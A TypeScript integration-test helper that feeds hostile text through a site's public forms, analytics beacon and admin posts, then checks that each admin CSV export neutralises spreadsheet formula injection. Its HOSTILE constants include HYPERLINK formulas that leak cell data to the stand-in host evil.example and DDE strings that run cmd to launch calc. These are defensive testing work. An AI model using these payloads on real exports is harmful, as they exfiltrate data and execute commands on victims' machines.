import { expect } from 'vitest'
import { forms } from '../../content/en/forms'
import { CSV_TABLES } from '../../server/services/analytics/report'
import { createUser, login, signIn, startAdminTestApp, type AdminClient } from './admin'
import type { TestApp } from './app'
import { smallPng } from './images'
import { postJson, validInquiry, waitFor } from './leads'

/**
 * Rows typed by visitors and strangers through the public endpoints (analytics beacon, contact and
 * demo forms, newsletter, a failed sign-in) and by an editor, then every CSV export the admin can
 * download. Shared by tests/integration/csv-exports.test.ts (the bytes) and
 * tests/integration/csv-spreadsheet.office.test.ts (what LibreOffice makes of them).
 */

/** Text that a spreadsheet would run as a formula if the export wrote it as it came. */
export const HOSTILE = {
  hyperlink: '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
  // utm_source and sign-in emails are stored lowercased: these are typed lowercase.
  dde: "@sum(1+1)*cmd|' /c calc'!a0",
  signIn: '=hyperlink("http://evil.example/?x="&a2,"click")',
  minus: "-2+3+cmd|' /C calc'!A0",
  plus: "+cmd|' /C calc'!A0",
  email: '-2+3@evil.example',
} as const

/** Data that must come out exactly as typed. */
export const PLAIN = { phone: '+1 514 555 0101', name: 'Amélie', company: 'Café Amélie' } as const

/** What a spreadsheet must show for each cell typed, per export: hostile text behind an apostrophe, data as typed. */
export const EXPECTED_CELLS: Record<string, string[]> = {
  leads: [`'${HOSTILE.hyperlink}`, PLAIN.phone, PLAIN.company, `'${HOSTILE.minus}`, `${PLAIN.name} Tremblay`],
  subscribers: [`'${HOSTILE.email}`],
  posts: [`'${HOSTILE.hyperlink}`, `'${HOSTILE.plus}`],
  audit: [`'${HOSTILE.signIn}`],
  'analytics-days': [],
  'analytics-pages': ['/pricing'],
  'analytics-sources': [`'${HOSTILE.dde}`],
  'analytics-campaigns': [`'${HOSTILE.hyperlink}`, `'${HOSTILE.dde} / cpc`],
}

export interface CsvExport {
  name: string
  path: string
  bytes: Buffer
}

const beaconUa = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36'

async function typeHostileRows(app: TestApp, admin: AdminClient): Promise<void> {
  const campaign = { utm_source: HOSTILE.dde, utm_medium: 'cpc', utm_campaign: HOSTILE.hyperlink }
  const beacon = await fetch(`${app.url}/api/collect`, {
    method: 'POST',
    headers: { 'content-type': 'text/plain;charset=UTF-8', 'user-agent': beaconUa },
    body: JSON.stringify({ path: '/pricing', ...campaign }),
  })
  expect(beacon.status).toBe(204)
  await waitFor(async () => (await app.db('analytics_daily').first())?.pageviews === 1)

  const lead = {
    name: HOSTILE.hyperlink,
    email: 'amelie@cafe-amelie.ca',
    phone: PLAIN.phone,
    restaurant: PLAIN.company,
    interest: 'KDS',
    source: { page: '/pricing', section: 'contact' },
    ...campaign,
  }
  expect((await postJson(`${app.url}/api/leads`, lead)).status).toBe(201)
  const inquiry = { ...validInquiry, first_name: PLAIN.name, phone: PLAIN.phone, message: HOSTILE.minus }
  expect((await postJson(`${app.url}/api/demo-inquiries`, inquiry)).status).toBe(201)
  const signup = {
    email: HOSTILE.email,
    consent: true,
    consent_version: forms.newsletter.consentVersion,
    form_url: '/pricing',
  }
  expect((await postJson(`${app.url}/api/newsletter`, signup)).status).toBe(201)
  expect((await login(app, HOSTILE.signIn, 'not the password')).status).toBe(401)

  const form = new FormData()
  form.append('alt', 'Cover')
  form.append('image', new Blob([new Uint8Array(await smallPng())], { type: 'image/png' }), 'cover.png')
  const image = (await (await admin.request('/api/admin/images', { method: 'POST', body: form })).json()) as unknown
  const post = await admin.request('/api/admin/posts', {
    method: 'POST',
    json: { title: HOSTILE.hyperlink, excerpt: 'An excerpt', content: 'Some text.', image, tags: [HOSTILE.plus] },
  })
  expect(post.status, await post.clone().text()).toBe(201)
}

/** Starts an app, types the rows, and downloads every export as its administrator. */
export async function downloadHostileExports(): Promise<{ app: TestApp; admin: AdminClient; exports: CsvExport[] }> {
  const app = await startAdminTestApp({ ANALYTICS_RATE_LIMIT_MAX: '1000' })
  await createUser(app, 'csv-admin@mapleserve.test', 'admin')
  const admin = await signIn(app, 'csv-admin@mapleserve.test')
  await typeHostileRows(app, admin)
  const paths: [string, string][] = [
    ['leads', '/api/admin/leads.csv'],
    ['subscribers', '/api/admin/subscribers.csv'],
    ['posts', '/api/admin/posts.csv'],
    ['audit', '/api/admin/audit.csv'],
    ...CSV_TABLES.map((table): [string, string] => [`analytics-${table}`, `/api/admin/analytics.csv?table=${table}`]),
  ]
  const exports: CsvExport[] = []
  for (const [name, path] of paths) {
    const res = await admin.request(path)
    expect(res.status, `${path}: ${res.status}`).toBe(200)
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    exports.push({ name, path, bytes: Buffer.from(await res.arrayBuffer()) })
  }
  return { app, admin, exports }
}

/** The records of an export, its byte-order mark (if any) left out. */
export function csvRows(e: CsvExport): string[][] {
  return parseCsv(e.bytes.toString('utf8').replace(/^\uFEFF/, ''))
}

/** RFC 4180 records of a CSV text (quoted fields, doubled quotes, line breaks inside quotes). */
export function parseCsv(text: string): string[][] {
  const records: string[][] = []
  let record: string[] = []
  let field = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') field += text[++i]
      else if (c === '"') quoted = false
      else field += c
    } else if (c === '"') quoted = true
    else if (c === ',') {
      record.push(field)
      field = ''
    } else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
      if (c === '\r') i++
      record.push(field)
      records.push(record)
      record = []
      field = ''
    } else field += c
  }
  if (field !== '' || record.length > 0) records.push([...record, field])
  return records
}
